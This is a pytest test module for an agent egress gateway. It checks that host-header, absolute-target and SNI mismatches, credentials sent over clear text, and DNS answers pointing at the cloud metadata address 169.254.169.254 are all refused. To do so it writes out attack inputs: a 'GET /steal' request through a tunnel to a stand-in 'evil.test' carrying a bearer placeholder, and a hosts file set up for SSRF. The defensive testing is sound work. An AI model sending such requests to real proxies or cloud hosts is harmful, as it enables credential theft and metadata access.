"""T01 to T04: what a request says of its destination in one place is held against every other place.

Two TLS origins (one with a credential), one clear-text origin. Every case goes through both ways in.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from exeat.boundary import find_capture_tools
from tests.support.entries import ENTRIES, Entry, connect_through, entry_of, read_to_end, tls_through, trusting
from tests.support.gateway import TestGateway
from tests.support.machines import own_network
from tests.support.origins import Origin
from tests.support.world import world

pytestmark = pytest.mark.xdist_group("destination-identity")

SECRET = "canary-1d3f5a7b9c2e4f60-canary"
CREDENTIALS = """
version: 1
credentials:
  api:
    {kind: bearer, secret: "store:api", hosts: [api.test], owner: tests, placeholder: {env: API_KEY, shape: "sk_{32}"}}
"""


def policy(plain_port: int) -> str:
    return f"""
    roles:
      agent:
        allow:
          - {{name: api.read, host: api.test, methods: [GET], paths: ["/**"], credential: api}}
          - {{name: elsewhere, host: evil.test, methods: [GET], paths: ["/**"]}}
          - {{name: plain, host: plain.test, scheme: http, port: {plain_port}, methods: [GET], paths: ["/**"]}}
    """


@dataclass
class Place:
    """The origins and the gateway of this module."""

    api: Origin
    evil: Origin
    plain: Origin
    gateway: TestGateway

    @property
    def requests(self) -> int:
        return sum(len(origin.received) for origin in (self.api, self.evil, self.plain))


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with (
        Origin("api.test", address="127.0.0.31").run_in_thread() as api,
        Origin("evil.test", address="127.0.0.32").run_in_thread() as evil,
        Origin("plain.test", address="127.0.0.33", tls=False).run_in_thread() as plain,
        TestGateway(
            tmp_path_factory.mktemp("identity"),
            policy=policy(plain.port),
            credentials=CREDENTIALS,
            secrets={"api": SECRET},
            origins=[api, evil, plain],
        ) as gateway,
    ):
        yield Place(api, evil, plain, gateway)


@pytest.fixture(scope="module", params=ENTRIES)
def entry(request: pytest.FixtureRequest, place: Place) -> Iterator[Entry]:
    with entry_of(request.param, place.gateway) as found:
        yield found


def refusal(place: Place, entry: Entry, reason: str, **fields: object) -> dict[str, object]:
    """The one record of this sandbox with `reason` and `fields`, once it is there."""
    (record,) = place.gateway.awaited(sandbox=entry.id, reason=reason, **fields)
    return record


def test_a_host_header_for_another_host_than_the_tunnel_is_refused(place: Place, entry: Entry) -> None:
    """T01: CONNECT and SNI say evil.test, Host says api.test and brings its placeholder: 421, nothing upstream."""
    before = place.requests
    authority = f"evil.test:{place.evil.port}"
    connection = tls_through(entry, authority)
    connection.sendall(
        f"GET /steal HTTP/1.1\r\nHost: api.test:{place.api.port}\r\n"
        f"Authorization: Bearer {entry.environment['API_KEY']}\r\n\r\n".encode()
    )
    answer = read_to_end(connection)
    connection.close()
    assert answer.startswith(b"HTTP/1.1 421 "), answer
    assert SECRET.encode() not in answer
    assert place.requests == before
    refusal(place, entry, "authority-mismatch", connect_host=authority, sni="evil.test", host_header="api.test")


def test_an_absolute_target_for_another_host_than_the_tunnel_is_refused(place: Place, entry: Entry) -> None:
    """T01 by the request target: the tunnel's host is the only one that a request in it can name."""
    before = place.requests
    connection = tls_through(entry, f"evil.test:{place.evil.port}")
    connection.sendall(
        f"GET https://api.test:{place.api.port}/ HTTP/1.1\r\nHost: evil.test:{place.evil.port}\r\n\r\n".encode()
    )
    answer = read_to_end(connection)
    connection.close()
    assert answer[:13] in (b"HTTP/1.1 421 ", b"HTTP/1.1 400 "), answer
    assert place.requests == before


def test_a_server_name_for_another_host_than_the_tunnel_is_refused(place: Place, entry: Entry) -> None:
    """T01 by SNI: CONNECT says evil.test, the ClientHello api.test: the handshake is refused and recorded."""
    before = place.requests
    connection = connect_through(entry, f"evil.test:{place.evil.port}")
    with pytest.raises(OSError, match=r"(?i)unrecognized|reset|eof|closed"):
        trusting(entry).wrap_socket(connection, server_hostname="api.test")
    connection.close()
    assert place.requests == before
    refusal(place, entry, "sni-mismatch", connect_host=f"evil.test:{place.evil.port}", sni="api.test")


def test_a_host_header_beside_an_absolute_target_is_refused(place: Place, entry: Entry) -> None:
    """T01 without a tunnel: the absolute target says plain.test, Host says evil.test: nothing upstream on either."""
    before = place.requests
    connection = entry.connect()
    connection.sendall(
        f"GET {place.plain.url('/x')} HTTP/1.1\r\nHost: evil.test:{place.evil.port}\r\n".encode()
        + entry.authorization
        + b"\r\n"
    )
    answer = read_to_end(connection)
    connection.close()
    assert answer[:13] in (b"HTTP/1.1 421 ", b"HTTP/1.1 400 "), answer
    assert place.requests == before


def test_clear_text_is_judged_by_the_same_rules(place: Place, entry: Entry) -> None:
    """T02: two denied clear-text requests and the denied https one leave records of one shape, and no byte upstream."""
    before = place.requests
    api = f"api.test:{place.api.port}"
    asked = [("POST", f"http://{api}/x"), ("POST", f"https://{api}/x"), ("GET", "http://unlisted.test/?t=1")]
    for method, url in asked:
        answer = entry.command("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-X", method, url)
        assert answer.out == "403", (method, url, answer)
    assert place.requests == before
    seen = [
        place.gateway.awaited(event="request.refused", sandbox=entry.id, method=method, scheme=scheme, host=host)[0]
        for method, scheme, host in (
            ("POST", "http", "api.test"),
            ("POST", "https", "api.test"),
            ("GET", "http", "unlisted.test"),
        )
    ]
    common = {"sandbox", "role", "policy", "method", "scheme", "host", "port", "path", "reason", "decision"}
    for record in seen:
        assert common <= record.keys(), common - record.keys()
        assert record["decision"] == "deny"
    assert "t=1" not in str(seen[2])


def test_clear_text_works_where_a_rule_enables_it(place: Place, entry: Entry) -> None:
    """T02: `scheme: http` in a rule opens exactly that host and port for absolute-form requests."""
    before = len(place.plain.received)
    answer = entry.command("curl", "-sS", place.plain.url("/x"))
    assert answer.json()["target"] == "/x"
    assert len(place.plain.received) == before + 1
    refused = entry.command("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "http://plain.test/x")
    assert refused.out == "403"
    assert len(place.plain.received) == before + 1


def test_a_credential_never_goes_over_clear_text(place: Place, entry: Entry) -> None:
    """T03: the placeholder over http is refused with its reason; over https the origin sees the secret."""
    before = place.requests
    header = f"Authorization: Bearer {entry.environment['API_KEY']}"
    api = f"api.test:{place.api.port}"
    refused = entry.command("curl", "-sS", "-i", "-H", header, f"http://{api}/x")
    assert refused.out.startswith("HTTP/1.1 403 "), refused
    assert "clear-text-refused" in refused.out
    assert place.requests == before
    answer = entry.command("curl", "-sS", "-w", "%{http_code}", "-o", "/dev/null", "-H", header, f"https://{api}/x")
    assert answer.out == "200"
    assert place.api.received[-1].values("authorization") == [f"Bearer {SECRET}"]


def test_a_credential_never_goes_over_clear_text_inside_a_tunnel(place: Place, entry: Entry) -> None:
    """T03 inside CONNECT: without TLS there is no request at all on a host whose rules want https."""
    before = place.requests
    connection = connect_through(entry, f"api.test:{place.api.port}")
    connection.sendall(
        f"GET / HTTP/1.1\r\nHost: api.test:{place.api.port}\r\n"
        f"Authorization: Bearer {entry.environment['API_KEY']}\r\n\r\n".encode()
    )
    assert b" 200 " not in read_to_end(connection)[:16]
    connection.close()
    assert place.requests == before
    refusal(place, entry, "tls-required", connect_host=f"api.test:{place.api.port}")


# --- T04: through the system's own resolver, with a hosts file of the gateway's own -------------------------------

HOSTS = """\
127.0.0.1 localhost
127.0.0.34 mixed.test.
169.254.169.254 mixed.test.
::ffff:169.254.169.254 mapped.test.
127.0.0.34 alone.test.
"""
"""The names are absolute: so they are asked for (RULINGS 5.2), and glibc compares them as they stand."""


def _own_hosts_file(hosts: Path) -> list[str]:
    """The words before a command that give it this hosts file, in a mount namespace of its own. Skips without one."""
    words = ["unshare", "-m", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts)]
    if shutil.which("unshare") is None or subprocess.run([*words, "true"], capture_output=True).returncode != 0:
        pytest.skip("no mount namespace can be made here; tests/unit/net/test_dial.py covers the dialer")
    return words


def test_an_answer_with_one_forbidden_address_is_refused_whole(tmp_path: Path) -> None:
    """T04: a mixed answer and a mapped metadata address are 403, the good one alone is 200; none is ever tried.

    As root in a network whose default route leads to a witness, so that an attempt at the address would be seen.
    """
    hosts = tmp_path / "hosts"
    hosts.write_text(HOSTS)
    prefix = _own_hosts_file(hosts)
    names = ("mixed.test", "mapped.test", "alone.test")
    with contextlib.ExitStack() as stack:
        outside = None
        if os.geteuid() == 0 and find_capture_tools() is not None:
            stack.enter_context(own_network())
            outside = stack.enter_context(world())
        origin = stack.enter_context(Origin(*names, address="127.0.0.34").run_in_thread())
        rules = "\n".join(
            f'      - {{name: {name}, host: {name}, port: {origin.port}, methods: [GET], paths: ["/**"]}}'
            for name in names
        )
        text = "\n".join(
            f"  {name}: {{addresses: [127.0.0.34], port: {origin.port}, ca: file:mixed.test.pem}}" for name in names
        )
        gateway = TestGateway(tmp_path / "g", policy="roles: {agent: {allow: []}}", prefix=prefix)
        (gateway.config / "mixed.test.pem").write_text(origin.authority.pem)
        (gateway.config / "policy.yaml").write_text(
            f"version: 1\ndestinations:\n{text}\nroles:\n  agent:\n    allow:\n{rules}\n"
        )
        with gateway:
            box = gateway.sandbox()
            for name, status in zip(names, ("403", "403", "200"), strict=True):
                answer = box.curl("-o", "/dev/null", "-w", "%{http_code}", f"https://{name}:{origin.port}/x")
                assert answer.out == status, (name, answer, gateway.errors())
                if status == "403":
                    assert origin.untouched
                    (record,) = gateway.awaited(host=name, event="request.outcome")
                    assert record["error"] == "address-refused"
                    assert "169.254.169.254" in str(record["address"]) or "a9fe:a9fe" in str(record["address"])
            assert [request.header("host") for request in origin.received] == [f"alone.test:{origin.port}"]
            if outside is not None:
                outside.sync()
                assert outside.heard() == []
                for address in ("169.254.169.254", "2001:db8::1"):  # the witness would have seen it
                    family = socket.AF_INET6 if ":" in address else socket.AF_INET
                    with socket.socket(family, socket.SOCK_DGRAM) as probe:
                        probe.sendto(b"x", (address, 443))
                outside.sync()
                assert {"udp 169.254.169.254 443", "udp 2001:db8::1 443"} <= set(outside.heard())
